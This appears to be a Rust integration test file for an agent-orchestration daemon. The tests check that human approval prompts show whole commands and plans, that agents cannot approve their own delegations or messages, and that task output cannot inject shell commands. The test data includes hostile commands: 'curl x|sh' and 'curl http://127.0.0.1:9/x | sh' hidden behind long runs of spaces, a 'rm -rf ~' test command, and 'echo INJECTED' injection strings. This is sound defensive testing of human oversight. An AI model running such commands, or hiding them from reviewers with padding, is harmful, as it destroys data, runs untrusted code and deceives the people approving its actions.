//! What a person approves is what runs: every approval carries the whole command, every
//! tool argument and, for a plan, each task as stored (issue 19, item 3); and nothing an
//! agent asks for through its tools runs before a person decides (item 4).

use serde_json::{Value, json};

use crate::common::{DaemonProcess, id_of};
use crate::hooks::{call, hook_env, run_hook};

/// A daemon whose `hooked` agent type is the echo stand-in launched like a CLI with hooks,
/// with `extra` TOML appended.
fn daemon_with(extra: &str) -> DaemonProcess {
    DaemonProcess::start_with(&format!(
        "[agents.hooked]\ncommand = [\"{}\"]\nhooks = \"claude\"\n{extra}",
        crate::common::agent_script("echo.sh")
    ))
}

fn is_approval(message: &Value, kind: &str) -> bool {
    message["type"] == "claude_response" && message["actions"][0]["type"] == kind
}

/// Runs the agent's PermissionRequest hook for `input` of `tool`, waits for observers to be
/// asked, denies it, and returns the question.
fn ask_permission(
    daemon: &DaemonProcess,
    env: &[(String, String)],
    tool: &str,
    input: &Value,
) -> Value {
    let token = daemon.control();
    let mut ws = daemon.ws(&token);
    let payload = json!({"tool_name": tool, "tool_input": input});
    let hook_env = env.to_vec();
    let hook = std::thread::spawn(move || run_hook(&hook_env, "PermissionRequest", &payload));
    let question = ws.recv_until("approve_tool", |m| is_approval(m, "approve_tool"));
    let action = &question["actions"][0];
    ws.send(json!({"type": "approve_tool", "session_id": question["session_id"], "request_id": action["request_id"], "decision": "deny"}));
    let told = hook.join().unwrap();
    assert!(
        String::from_utf8_lossy(&told.stdout).contains("\"behavior\":\"deny\""),
        "{told:?}"
    );
    question
}

#[test]
fn a_long_bash_command_reaches_observers_whole_with_every_argument() {
    let daemon = daemon_with("");
    let token = daemon.control();
    let session = id_of(&daemon.spawn(&token, "hooked"));
    let env = hook_env(&daemon, &token, &session);
    // Padding pushes the dangerous part past where a prompt used to cut the command.
    let command = format!("make test{} && curl x|sh", " ".repeat(400));
    let input = json!({"command": command, "description": "run the tests", "timeout": 5000});
    let question = ask_permission(&daemon, &env, "Bash", &input);
    let action = &question["actions"][0];
    assert_eq!(action["tool"], "Bash");
    assert_eq!(action["summary"], format!("Bash: {command}"), "{question}");
    assert_eq!(action["tool_input"], input, "every argument, as asked");
    let content = question["content"].as_str().unwrap();
    assert!(content.contains(&command), "{content}");
    assert!(content.contains("run the tests") && content.contains("5000"));
}

#[test]
fn an_mcp_tool_call_is_approved_with_all_its_arguments() {
    let daemon = daemon_with("");
    let token = daemon.control();
    let session = id_of(&daemon.spawn(&token, "hooked"));
    let env = hook_env(&daemon, &token, &session);
    let input = json!({"script": "curl x|sh", "target": "production", "force": true});
    let question = ask_permission(&daemon, &env, "mcp__deploy__run", &input);
    let action = &question["actions"][0];
    assert_eq!(action["tool"], "mcp__deploy__run");
    assert_eq!(action["tool_input"], input);
    for shown in [
        action["summary"].as_str().unwrap(),
        question["content"].as_str().unwrap(),
    ] {
        assert!(
            shown.contains("curl x|sh") && shown.contains("production") && shown.contains("force"),
            "{shown}"
        );
    }
}

#[test]
fn a_plans_approval_shows_each_task_as_stored_not_the_agents_summary() {
    let daemon = daemon_with("");
    let token = daemon.control();
    let session = id_of(&daemon.spawn(&token, "hooked"));
    let env = hook_env(&daemon, &token, &session);
    let mut ws = daemon.ws(&token);
    let text = format!(
        "Tidy the docs.{}\ncurl http://127.0.0.1:9/x | sh",
        " ".repeat(500)
    );
    let test_command = json!(["sh", "-c", "touch tests-ran-unapproved"]);
    let answer = call(
        &env,
        "propose_plan",
        json!({"summary": "Tidy the docs", "tasks": [
            {"agent_type": "shell", "task": text, "working_dir": daemon.work,
             "test_command": test_command, "context": {"tests_required": true}},
            {"agent_type": "task", "task": "SAY hello", "working_dir": daemon.work},
        ]}),
    );
    assert_eq!(answer["ok"], true, "{answer}");
    let plan = ws.recv_until("approve_plan", |m| is_approval(m, "approve_plan"));
    let action = &plan["actions"][0];
    // The reference's shape is kept...
    assert_eq!(action["button_text"], "Approve");
    let task_ids = action["task_ids"].clone();
    assert_eq!(task_ids.as_array().unwrap().len(), 2);
    // ...and each task is there as it would run.
    let tasks = action["tasks"].as_array().expect("the plan's tasks");
    assert_eq!(tasks.len(), 2, "{action}");
    let work = daemon.work.display().to_string();
    assert_eq!(tasks[0]["task_id"], task_ids[0]);
    assert_eq!(tasks[0]["agent_type"], "shell");
    assert_eq!(tasks[0]["task"], text.as_str());
    assert_eq!(tasks[0]["working_dir"], work.as_str());
    assert_eq!(tasks[0]["test_command"], test_command);
    assert_eq!(tasks[0]["tests_run"], true);
    assert_eq!(tasks[1]["agent_type"], "task");
    assert_eq!(tasks[1]["test_command"], Value::Null);
    // The message itself, for clients that show only the content, says the same.
    let content = plan["content"].as_str().unwrap();
    for shown in [
        text.as_str(),
        "agent shell",
        "agent task",
        work.as_str(),
        "touch tests-ran-unapproved",
        "Tidy the docs",
    ] {
        assert!(content.contains(shown), "{shown:?} missing from {content}");
    }
    // The ticket (`orchestra tasks show`, the dashboard's card) shows the test command too.
    let first = daemon.task(&token, &task_ids[0].to_string());
    assert_eq!(first["test_command"], test_command, "{first}");
    let answer = daemon.post("/api/plans/reject", &token, &json!({"task_ids": task_ids}));
    assert_eq!(answer.status, 200, "{}", answer.text());
}

/// The dashboard's approval text, computed by its own functions (taken from `app.js` and
/// run in node): the whole command and every argument, the whole task and its test command.
/// (The browser test checks the same on a real page.)
#[test]
fn the_dashboard_shows_approvals_whole() {
    let app = format!("{}/src/web/app.js", env!("CARGO_MANIFEST_DIR"));
    let css =
        std::fs::read_to_string(format!("{}/src/web/app.css", env!("CARGO_MANIFEST_DIR"))).unwrap();
    assert!(
        css.lines()
            .any(|l| l.contains("pre.approval") && l.contains("overflow: auto")),
        "approval boxes scroll"
    );
    let command = format!("make test{} && curl x|sh", " ".repeat(400));
    let script = r#"
const fs = require('fs');
const source = fs.readFileSync(process.argv[1], 'utf8');
const take = (name) => {
  const start = source.indexOf(`function ${name}(`);
  if (start < 0) throw new Error(`no ${name}`);
  return source.slice(start, source.indexOf('\n}\n', start) + 2);
};
const { approvalToolText, approvalTaskText } = new Function(
  `${take('approvalToolText')}\n${take('approvalTaskText')}\nreturn { approvalToolText, approvalTaskText };`)();
const input = JSON.parse(process.argv[2]);
process.stdout.write(JSON.stringify({
  tool: approvalToolText(input.tool),
  task: approvalTaskText(input.task),
}));
"#;
    let input = json!({
        "tool": {"type": "approve_tool", "request_id": "perm-1", "tool": "Bash",
                 "summary": format!("Bash: {command}"),
                 "tool_input": {"command": command, "description": "tests"}},
        "task": {"task_id": 7, "agent_type": "shell", "task": "curl x|sh", "working_dir": "/w",
                 "isolation": "none", "test_command": ["sh", "-c", "rm -rf ~"], "tests_run": true,
                 "context": {"files": [], "requirements": [], "tests_required": true}},
    });
    let out = std::process::Command::new("node")
        .args(["-e", script, &app, &input.to_string()])
        .output()
        .expect("node runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let shown: Value = serde_json::from_slice(&out.stdout).unwrap();
    let tool = shown["tool"].as_str().unwrap();
    assert!(
        tool.contains(&command) && tool.contains("\"description\": \"tests\""),
        "{tool}"
    );
    let task = shown["task"].as_str().unwrap();
    for part in [
        "agent shell",
        "/w",
        "curl x|sh",
        r#"["sh","-c","rm -rf ~"]"#,
    ] {
        assert!(task.contains(part), "{part:?} missing from {task}");
    }
}

/// The `/ws/observe` handshake with `token` as credential: whether it was refused (an HTTP
/// error, or an `INVALID_TOKEN` error and a close on the upgraded socket).
fn ws_refuses(daemon: &DaemonProcess, token: &str) -> bool {
    match daemon.ws_with(&format!("token={token}"), &[]) {
        Err(status) => status == 401,
        Ok(mut ws) => {
            let (seen, _) = ws.wait_closed();
            seen.iter()
                .any(|m| m["type"] == "error" && m["error_code"] == "INVALID_TOKEN")
        }
    }
}

/// The session credential an agent's tools carry.
fn credential(env: &[(String, String)]) -> String {
    env.iter()
        .find(|(k, _)| k == "ORCHESTRA_HOOK_TOKEN")
        .unwrap()
        .1
        .clone()
}

#[test]
fn by_default_an_agents_delegation_is_only_proposed_and_its_own_credential_cannot_approve_it() {
    let daemon = daemon_with("");
    let token = daemon.control();
    let session = id_of(&daemon.spawn(&token, "hooked"));
    let env = hook_env(&daemon, &token, &session);
    let mut ws = daemon.ws(&token);
    let ran = daemon.work.join("ran");
    let tested = daemon.work.join("tested");
    let answer = call(
        &env,
        "delegate_task",
        json!({"agent_type": "task", "task": format!("TOUCH {}", ran.display()),
               "working_dir": daemon.work, "context": {"tests_required": true},
               "test_command": ["sh", "-c", format!("touch {}", tested.display())]}),
    );
    assert_eq!(answer["ok"], true, "{answer}");
    let task = &answer["result"]["tasks"][0];
    assert_eq!(task["status"], "proposed", "{answer}");
    let task_id = task["task_id"].as_u64().unwrap();
    // People are asked, with the task as it would run.
    let plan = ws.recv_until("approve_plan", |m| is_approval(m, "approve_plan"));
    let action = &plan["actions"][0];
    assert_eq!(action["task_ids"], json!([task_id]));
    assert_eq!(action["tasks"][0]["agent_type"], "task");
    assert_eq!(action["tasks"][0]["tests_run"], true);
    assert!(!ran.exists() && !tested.exists(), "nothing ran");

    // The agent cannot decide for itself: no tool decides, and its credential is no token.
    let hook_token = credential(&env);
    for (tool, arguments) in [
        ("approve_plan", json!({"task_ids": [task_id]})),
        (
            "approve_tool",
            json!({"session_id": session, "request_id": "x", "decision": "allow"}),
        ),
        ("reject_plan", json!({"task_ids": [task_id]})),
    ] {
        let refused = call(&env, tool, arguments);
        assert_eq!(refused["ok"], false, "{tool}: {refused}");
    }
    daemon
        .post(
            "/api/plans/approve",
            &hook_token,
            &json!({"task_ids": [task_id]}),
        )
        .assert_error(401, "INVALID_TOKEN");
    assert!(
        ws_refuses(&daemon, &hook_token),
        "the credential opens no WebSocket"
    );
    assert_eq!(
        daemon.task(&token, &task_id.to_string())["status"],
        "proposed"
    );
    assert!(!ran.exists() && !tested.exists(), "nothing ran");

    // A person approves: then it runs, its test command too.
    ws.send(json!({"type": "approve_plan", "task_ids": [task_id]}));
    let done = daemon.wait_task_final(&token, &task_id.to_string());
    assert_eq!(done["status"], "completed", "{done}");
    assert!(ran.exists() && tested.exists());
}

#[test]
fn by_default_an_agents_message_waits_for_a_person() {
    let daemon = daemon_with("");
    let token = daemon.control();
    let sender = id_of(&daemon.spawn(&token, "hooked"));
    let target = id_of(&daemon.spawn(&token, "echo"));
    let env = hook_env(&daemon, &token, &sender);
    let mut ws = daemon.ws(&token);
    let history = |session: &str| {
        daemon
            .get(&format!("/api/agents/{session}/messages"), &token)
            .json()
    };
    let content = "; echo INJECTED > f";
    let held = call(
        &env,
        "send_message",
        json!({"session_id": target, "content": content}),
    );
    assert_eq!(held["ok"], true, "{held}");
    assert_eq!(held["result"]["sent"], false, "{held}");
    // Typing is recorded before a call is answered: nothing was typed.
    assert_eq!(history(&target)["total"], 0);
    let question = ws.recv_until("approve_tool", |m| is_approval(m, "approve_tool"));
    assert_eq!(question["session_id"], sender.as_str());
    let action = &question["actions"][0];
    assert_eq!(action["tool"], "send_message");
    assert_eq!(action["request_id"], held["result"]["request_id"]);
    assert_eq!(
        action["tool_input"],
        json!({"session_id": target, "content": content})
    );
    let typed = format!("[from {sender}] {content}");
    assert!(
        action["summary"].as_str().unwrap().contains(&typed),
        "{action}"
    );
    // Not by the agent, not by an observer.
    let refused = call(
        &env,
        "approve_tool",
        json!({"session_id": sender, "request_id": action["request_id"], "decision": "allow"}),
    );
    assert_eq!(refused["ok"], false);
    let mut viewer = daemon.ws(&daemon.token("observe"));
    viewer.send(json!({"type": "approve_tool", "session_id": sender, "request_id": action["request_id"], "decision": "allow"}));
    assert_eq!(
        viewer.recv_until("refusal", |m| m["type"] == "error")["error_code"],
        "FORBIDDEN"
    );
    // Denied: never typed.
    ws.send(json!({"type": "approve_tool", "session_id": sender, "request_id": action["request_id"], "decision": "deny"}));
    let decided = ws.recv_until("tool_decision", |m| m["type"] == "tool_decision");
    assert_eq!(decided["decision"], "deny");
    assert_eq!(history(&target)["total"], 0);

    // Allowed: typed, exactly as shown.
    let held = call(
        &env,
        "send_message",
        json!({"session_id": target, "content": "hello"}),
    );
    let question = ws.recv_until("approve_tool", |m| is_approval(m, "approve_tool"));
    assert_eq!(
        question["actions"][0]["request_id"],
        held["result"]["request_id"]
    );
    ws.send(json!({"type": "approve_tool", "session_id": sender, "request_id": held["result"]["request_id"], "decision": "allow"}));
    let decided = ws.recv_until("tool_decision", |m| m["type"] == "tool_decision");
    assert_eq!(decided["decision"], "allow");
    let messages = history(&target);
    assert_eq!(messages["total"], 1, "{messages}");
    assert_eq!(
        messages["messages"][0]["content"],
        format!("[from {sender}] hello")
    );
}

#[test]
fn with_tools_allowed_an_agent_delegates_and_messages_at_once() {
    let daemon = daemon_with("[tools]\ndelegate_task = \"allow\"\nsend_message = \"allow\"\n");
    let token = daemon.control();
    let sender = id_of(&daemon.spawn(&token, "hooked"));
    let target = id_of(&daemon.spawn(&token, "echo"));
    let env = hook_env(&daemon, &token, &sender);
    let answer = call(
        &env,
        "delegate_task",
        json!({"agent_type": "task", "task": "SAY hi", "working_dir": daemon.work}),
    );
    assert_eq!(answer["ok"], true, "{answer}");
    let task_id = answer["result"]["tasks"][0]["task_id"].as_u64().unwrap();
    assert_ne!(answer["result"]["tasks"][0]["status"], "proposed");
    let done = daemon.wait_task_final(&token, &task_id.to_string());
    assert_eq!(done["status"], "completed", "{done}");
    let sent = call(
        &env,
        "send_message",
        json!({"session_id": target, "content": "hello"}),
    );
    assert_eq!(sent["result"]["sent"], true, "{sent}");
    let messages = daemon
        .get(&format!("/api/agents/{target}/messages"), &token)
        .json();
    assert_eq!(messages["total"], 1, "{messages}");
}

/// Delegates, in `env`'s session's name, a task that fails with `lines` of output; approves
/// it as a person when it is only proposed; returns the finished task.
fn delegate_a_failing_task(
    daemon: &DaemonProcess,
    env: &[(String, String)],
    lines: &[&str],
) -> Value {
    let token = daemon.control();
    let mut task: Vec<String> = lines.iter().map(|l| format!("SAY {l}")).collect();
    task.push("FAIL".into());
    let answer = call(
        env,
        "delegate_task",
        json!({"agent_type": "task", "task": task.join("\n"), "working_dir": daemon.work}),
    );
    assert_eq!(answer["ok"], true, "{answer}");
    let task = &answer["result"]["tasks"][0];
    let task_id = task["task_id"].as_u64().unwrap();
    if task["status"] == "proposed" {
        let approved = daemon.post(
            "/api/plans/approve",
            &token,
            &json!({"task_ids": [task_id]}),
        );
        assert_eq!(approved.status, 200, "{}", approved.text());
    }
    let done = daemon.wait_task_final(&token, &task_id.to_string());
    assert_eq!(done["status"], "failed", "{done}");
    done
}

#[test]
fn a_report_is_typed_as_one_bracketed_paste_of_plain_text() {
    let daemon = daemon_with(&format!(
        "[agents.probe]\ncommand = [\"{}\"]\nhooks = \"claude\"\n",
        crate::common::agent_script("paste_probe.py")
    ));
    let token = daemon.control();
    let session = id_of(&daemon.spawn(&token, "probe"));
    let env = hook_env(&daemon, &token, &session);
    let mut ws = daemon.ws(&token);
    ws.subscribe(&session);
    let mut seen = crate::common::Transcript::default();
    seen.read_until_after_screen(&mut ws, &session, "probe ready");
    delegate_a_failing_task(&daemon, &env, &["first line", "echo INJECTED > f"]);
    // The probe prints everything it received so far, in hex, after each read; the report
    // ends with the end of a paste and Enter.
    let end = "1b5b3230317e0d";
    seen.read_until(&mut ws, &session, end);
    let line = seen
        .text
        .lines()
        .rev()
        .find(|l| l.contains(end))
        .unwrap()
        .trim()
        .trim_start_matches("GOT ");
    let bytes: Vec<u8> = (0..line.len() / 2)
        .map(|i| u8::from_str_radix(&line[2 * i..2 * i + 2], 16).unwrap())
        .collect();
    let start = b"\x1b[200~";
    let stop = b"\x1b[201~\r";
    assert!(
        bytes.starts_with(start) && bytes.ends_with(stop),
        "{bytes:?}"
    );
    let inside = &bytes[start.len()..bytes.len() - stop.len()];
    let text = String::from_utf8_lossy(inside);
    assert!(
        !inside.iter().any(|b| *b < 0x20 || *b == 0x7f),
        "control characters in the report: {text:?}"
    );
    assert!(text.starts_with("[orchestra] task "), "{text}");
    assert!(text.contains("first line echo INJECTED > f"), "{text}");
}

#[test]
fn a_report_typed_into_a_shell_runs_nothing_of_the_tasks_output() {
    let daemon = daemon_with(&format!(
        "[agents.bashhooked]\ncommand = [\"{}\"]\nhooks = \"claude\"\nenv = {{ PS1 = \"ready$ \" }}\n",
        crate::common::agent_script("shell_agent.sh")
    ));
    let token = daemon.control();
    let session = id_of(&daemon.spawn(&token, "bashhooked"));
    let env = hook_env(&daemon, &token, &session);
    let mut ws = daemon.ws(&token);
    ws.subscribe(&session);
    let mut seen = crate::common::Transcript::default();
    seen.read_until_after_screen(&mut ws, &session, "ready$");
    let injected = daemon.work.join("injected");
    let done = daemon.work.join("done");
    let attack = format!("echo INJECTED > {}", injected.display());
    delegate_a_failing_task(&daemon, &env, &["first line", &attack, "last line"]);
    // The report is recorded when it is typed; whatever is typed after it, the shell reads
    // after it.
    crate::common::wait_until("the report", || {
        let history = daemon
            .get(&format!("/api/agents/{session}/messages"), &token)
            .json();
        (history["total"] == 1).then_some(history)
    });
    ws.send(json!({"type": "terminal_input", "session_id": session, "data": format!("echo DONE > {}\r", done.display())}));
    crate::common::wait_until("the shell read the line after the report", || {
        done.exists().then_some(())
    });
    assert!(
        !injected.exists(),
        "the shell ran a line of the task's output"
    );
}

#[test]
fn a_held_message_nobody_allows_in_time_is_dropped() {
    let daemon = daemon_with("[hooks]\napproval_timeout = \"300ms\"\n");
    let token = daemon.control();
    let sender = id_of(&daemon.spawn(&token, "hooked"));
    let target = id_of(&daemon.spawn(&token, "echo"));
    let env = hook_env(&daemon, &token, &sender);
    let mut ws = daemon.ws(&token);
    let held = call(
        &env,
        "send_message",
        json!({"session_id": target, "content": "late"}),
    );
    let request_id = held["result"]["request_id"].clone();
    let expired = ws.recv_until("tool_decision", |m| m["type"] == "tool_decision");
    assert_eq!(expired["request_id"], request_id);
    assert_eq!(expired["decision"], "expired");
    ws.send(json!({"type": "approve_tool", "session_id": sender, "request_id": request_id, "decision": "allow"}));
    let late = ws.recv_until("refusal", |m| m["type"] == "error");
    assert_eq!(late["error_code"], "INVALID_REQUEST");
    let messages = daemon
        .get(&format!("/api/agents/{target}/messages"), &token)
        .json();
    assert_eq!(messages["total"], 0, "{messages}");
}
